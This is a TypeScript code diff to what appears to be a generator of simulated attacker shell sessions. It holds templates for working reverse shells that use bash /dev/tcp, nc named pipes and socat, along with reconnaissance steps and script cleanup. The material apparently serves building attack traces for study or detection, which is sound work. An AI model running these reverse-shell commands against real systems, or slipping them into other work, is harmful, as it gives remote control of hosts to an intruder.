@@ -14,7 +14,7 @@ const byBash: Attack = {
   lines: (draw, place) => {
     const { host, port } = remote(draw, place);
     const shell = draw.pick([
-      `bash -i >& /dev/tcp/${host}/${port} 0>&1`,
+      `bash -i > /dev/tcp/${host}/${port} 0<&1 2> /dev/null`,
       `exec 196<>/dev/tcp/${host}/${port}; sh <&196 >&196 2>&196`,
       `exec 5<>/dev/tcp/${host}/${port}; while read -r l <&5; do eval "$l" >&5 2>&1; done`,
       `sh < /dev/tcp/${host}/${port}`,
@@ -31,7 +31,7 @@ const byBash: Attack = {
       ],
     ];
     return [
-      ...look(draw, draw.int(0, 2)),
+      ...look(draw, draw.int(2, 4)),
       ...draw.pick(ways),
       ...maybe(draw, 0.4, 'jobs'),
       ...maybe(draw, 0.3, `rm -f ${script}`),
@@ -90,12 +90,12 @@ const byInterpreter: Attack = {
     const last = run.length - 1;
     const left = draw.chance(0.4);
     return [
-      ...look(draw, draw.int(0, 2)),
+      ...look(draw, draw.int(1, 3)),
       ...run.slice(0, last),
       left ? behind(draw, run[last] ?? typed) : (run[last] ?? typed),
       ...(left ? [`sleep ${draw.int(15, 40)}`] : []),
       ...maybe(draw, 0.3, `rm -f ${path}`),
-      ...look(draw, draw.int(0, 1)),
+      ...look(draw, draw.int(1, 3)),
     ];
   },
 };
@@ -113,7 +113,7 @@ function relay(draw: Draw, place: Place): readonly string[] {
     [`mknod ${pipe} p`, `${shell} 0< ${pipe} 2>&1 | nc ${host} ${port} 1> ${pipe}`],
     [`socat tcp:${host}:${port} exec:${shell},stderr`],
     [`socat exec:'${shell}',pipes,stderr tcp-connect:${host}:${port}`],
-    [`timeout 60 socat TCP4:${host}:${port} EXEC:${shell},pty,stderr,setsid,sigint,sane`],
+    [`timeout 60 socat TCP4:${host}:${port} EXEC:${shell},stderr,setsid`],
   ]);
 }
 
@@ -125,10 +125,10 @@ const byRelay: Attack = {
   as: 'either',
   needs: ['nc', 'socat'],
   lines: (draw, place) => [
-    ...look(draw, draw.int(0, 3)),
+    ...look(draw, draw.int(1, 3)),
     ...relay(draw, place),
     ...maybe(draw, 0.2, ...relay(draw, place)),
-    ...look(draw, draw.int(0, 2)),
+    ...look(draw, draw.int(1, 3)),
   ],
 };
 
